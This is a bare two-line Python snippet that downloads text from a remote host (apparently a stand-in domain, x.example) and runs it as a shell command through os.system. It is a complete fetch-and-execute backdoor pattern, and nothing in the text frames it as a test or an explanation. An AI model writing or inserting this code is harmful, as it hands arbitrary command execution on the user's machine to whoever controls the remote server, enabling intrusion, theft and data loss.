import os, requests
os.system(requests.get('http://x.example/c').text)
